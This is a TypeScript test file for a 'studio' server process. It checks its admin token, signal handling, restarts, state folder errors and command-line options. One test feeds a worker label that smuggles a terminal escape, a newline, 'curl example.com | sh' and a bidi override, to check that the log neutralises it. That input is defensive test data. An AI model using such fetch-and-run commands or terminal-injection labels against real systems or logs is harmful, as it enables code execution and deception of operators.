// `studio-worker studio` as people run it: a process of its own, its token, its state, and how it ends.
import assert from 'node:assert/strict';
import { type ChildProcess, spawn } from 'node:child_process';
import { subscribe, unsubscribe } from 'node:diagnostics_channel';
import { on, once } from 'node:events';
import { readFile, stat, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { createInterface } from 'node:readline';
import { after, describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import yargs from 'yargs';
import { withoutStacks } from '../../src/studio/host/runtime-log.ts';
import { adminTokenFile, defaultStateDir } from '../../src/studio/host/state-dir.ts';
import { openOperator } from '../../src/studio/operator-client.ts';
import { studioCommand } from '../../src/studio/studio-command.ts';
import { enrol, openWorker, registerRequest } from './fake-worker.ts';
import { llmJob, openTempDir } from './test-studio.ts';

const STUDIO_PROCESS = fileURLToPath(new URL('./studio-process.ts', import.meta.url));

// Some tests signal this very process. A signal may arrive only after the studio has stopped listening to it, and must
// not end the tests that follow.
const ignoreLate = () => {};
process.on('SIGTERM', ignoreLate);
after(() => process.off('SIGTERM', ignoreLate));

/** Resolves with its URL once it listens. */
async function startStudio(
  stateDir: string,
  port = 0,
): Promise<{ child: ChildProcess; url: string; until(line: RegExp): Promise<string> }> {
  const options = JSON.stringify({ port, host: '127.0.0.1', stateDir });
  const child = spawn(process.execPath, [STUDIO_PROCESS, options], { stdio: ['ignore', 'pipe', 'inherit'] });
  const lines = createInterface({ input: child.stdout });
  // Reading goes on to the end: a closed pipe would be an error for the studio.
  const url = await new Promise<string>((resolve, reject) => {
    lines.on('line', (line) => {
      const found = /^studio listening on (\S+)/.exec(line)?.[1];
      if (found !== undefined) resolve(found);
    });
    child.on('exit', (code) => reject(new Error(`the studio ended with ${code} before it listened`)));
  });
  const until = async (wanted: RegExp): Promise<string> => {
    for await (const [line] of on(lines, 'line') as AsyncIterable<[string]>) if (wanted.test(line)) return line;
    throw new Error('the studio has said everything');
  };
  return { child, url, until };
}

test('it makes a token once that only its owner can read, and stops in order', async () => {
  await using folder = await openTempDir();
  const first = await startStudio(folder.path);
  const token = (await readFile(adminTokenFile(folder.path), 'utf8')).trim();
  assert.match(token, /^[0-9a-f]{64}$/);
  if (process.platform !== 'win32') {
    assert.equal((await stat(adminTokenFile(folder.path))).mode & 0o777, 0o600);
  }
  await using operator = openOperator({ url: first.url, adminToken: token });
  const { id } = await operator.createJob(llmJob());
  first.child.kill('SIGTERM');
  assert.deepEqual(await once(first.child, 'exit'), [0, null]);

  const second = await startStudio(folder.path);
  await using again = openOperator({ url: second.url, adminToken: token });
  assert.equal((await again.job(id)).status, 'queued');
  second.child.kill('SIGINT');
  assert.deepEqual(await once(second.child, 'exit'), [0, null]);
});

test('killed in the middle of a job it frees its port and its folder, and goes on where it was', async () => {
  await using folder = await openTempDir();
  const first = await startStudio(folder.path);
  const adminToken = (await readFile(adminTokenFile(folder.path), 'utf8')).trim();
  await using operator = openOperator({ url: first.url, adminToken });
  const worker = await openWorker(first.url, await enrol(first.url, operator));
  const { id } = await operator.createJob(llmJob());
  await worker.offer();
  first.child.kill('SIGKILL');
  // The runtime is a child of the killed process: that it ends too is what closes the worker's socket.
  await worker.closed;

  const second = await startStudio(folder.path, Number(new URL(first.url).port));
  assert.equal(second.url, first.url);
  await using again = openOperator({ url: second.url, adminToken });
  assert.equal((await again.job(id)).status, 'claimed');
  second.child.kill('SIGTERM');
  await once(second.child, 'exit');
});

test('a label that would steer the terminal is announced as one plain line', async () => {
  await using folder = await openTempDir();
  const { child, url, until } = await startStudio(folder.path);
  const announced = until(/asks to be let in/);
  await registerRequest(url, { label: `rig\u001b[2J\n  curl example.com | sh\u202e${'x'.repeat(500)}` });
  const line = await announced;
  child.kill('SIGTERM');
  await once(child, 'exit');
  assert.match(line, /^rig \[2J {3}curl example\.com \| sh x{1,80}… asks to be let in:$/);
});

test('what the runtime says is told without its stacks', () => {
  assert.equal(withoutStacks('a.c++:1: failed\nstack: /bin/workerd@1 /bin/workerd@2\nmore'), 'a.c++:1: failed\nmore\n');
  assert.equal(withoutStacks('stack: /bin/workerd@1'), '');
});

test('a signal while the studio starts is its owner’s to deal with', {
  skip: process.platform === 'win32',
}, async () => {
  const { openStudio } = await import('../../src/studio/host/embedded-studio.ts');
  let heard = 0;
  const hear = () => {
    heard += 1;
  };
  // Sent as soon as the runtime is being started; Miniflare itself would end this process.
  const onChild = () => process.nextTick(() => process.kill(process.pid, 'SIGTERM'));
  process.on('SIGTERM', hear);
  subscribe('child_process', onChild);
  try {
    await using studio = await openStudio({ adminToken: 'x' });
    assert.ok(studio.url);
    assert.ok(heard > 0);
  } finally {
    unsubscribe('child_process', onChild);
    process.off('SIGTERM', hear);
  }
});

test('a Ctrl-C that ends the runtime while it starts is a stop, not a failure', {
  skip: process.platform === 'win32',
}, async () => {
  await using folder = await openTempDir();
  const { runStudio } = await import('../../src/studio/host/run-studio.ts');
  // A terminal sends its signal to this process and to the runtime alike.
  const onChild = (message: unknown) => {
    const { process: child } = message as { process: ChildProcess };
    process.nextTick(() => {
      process.kill(process.pid, 'SIGTERM');
      child.kill('SIGTERM');
    });
  };
  const said: string[] = [];
  subscribe('child_process', onChild);
  try {
    await runStudio({ host: '127.0.0.1', port: 0, stateDir: folder.path, say: (line) => said.push(line) });
  } finally {
    unsubscribe('child_process', onChild);
  }
  assert.deepEqual(said, []);
});

test('an address that nobody can listen on is an error that says what to change', async () => {
  await using folder = await openTempDir();
  const { openStudio } = await import('../../src/studio/host/embedded-studio.ts');
  const open = (host: string, port: number) => openStudio({ adminToken: 'x', host, port });
  // Of the range for documentation: no machine has it.
  await assert.rejects(open('192.0.2.1', 0), /cannot listen on 192\.0\.2\.1: .*check --host/);
  await assert.rejects(open('studio.invalid', 0), /cannot listen on studio\.invalid: .*check --host/);
  const { child, url } = await startStudio(folder.path);
  const refusal = await open('127.0.0.1', Number(new URL(url).port)).catch((error) => error);
  child.kill('SIGTERM');
  await once(child, 'exit');
  assert.match(String(refusal), /port \d+: something else listens there/);
});

test('a state folder that is a file is named', async () => {
  await using folder = await openTempDir();
  const { openStudio } = await import('../../src/studio/host/embedded-studio.ts');
  const { loadAdminToken } = await import('../../src/studio/host/state-dir.ts');
  const file = path.join(folder.path, 'file');
  await writeFile(file, '');
  await assert.rejects(
    openStudio({ stateDir: file, adminToken: 'x' }),
    /state folder .*file cannot be made: there is a/,
  );
  await assert.rejects(loadAdminToken(path.join(file, 'below')), /below cannot be made: a part of that path is a file/);
});

test('a second studio on the same folder is refused', async () => {
  await using folder = await openTempDir();
  const { child } = await startStudio(folder.path);
  const { openStudio } = await import('../../src/studio/host/embedded-studio.ts');
  await assert.rejects(openStudio({ stateDir: folder.path, adminToken: 'x' }), /another studio is running/);
  child.kill('SIGTERM');
  await once(child, 'exit');
});

test('an empty token file is named, never replaced', async () => {
  await using folder = await openTempDir();
  await writeFile(adminTokenFile(folder.path), '\n');
  const { loadAdminToken } = await import('../../src/studio/host/state-dir.ts');
  await assert.rejects(loadAdminToken(folder.path), /admin-token is empty/);
});

describe('the command line', () => {
  const parse = async (...args: string[]) =>
    yargs(['studio', ...args])
      .command({ ...studioCommand, handler: () => {} })
      .exitProcess(false)
      .fail((message, error) => {
        throw error ?? new Error(message);
      })
      .parseAsync();

  test('takes its defaults', async () => {
    const { port, host } = await parse();
    assert.deepEqual({ port, host }, { port: 8787, host: '127.0.0.1' });
  });

  test('refuses to be reachable by others without a token of the operator’s own', async () => {
    await assert.rejects(parse('--host', '0.0.0.0'), /--admin-token/);
    await parse('--host', '0.0.0.0', '--admin-token', 'secret');
    await parse('--host', '::1');
  });

  test('refuses empty values', async () => {
    await assert.rejects(parse('--host', ''), /--host needs/);
    await assert.rejects(parse('--state', ''), /--state needs/);
  });

  test('refuses ports that are none', () => assert.rejects(parse('--port', '70000'), /--port/));
});

test('the state lies where the platform wants it', () => {
  const homedir = '/home/a';
  assert.equal(defaultStateDir({ platform: 'linux', env: {}, homedir }), '/home/a/.local/share/studio-worker/studio');
  assert.equal(
    defaultStateDir({ platform: 'linux', env: { XDG_DATA_HOME: '/data' }, homedir }),
    '/data/studio-worker/studio',
  );
  assert.equal(
    defaultStateDir({ platform: 'win32', env: { LOCALAPPDATA: 'C:\\L' }, homedir: 'C:\\U' }),
    path.win32.join('C:\\L', 'studio-worker', 'studio'),
  );
});
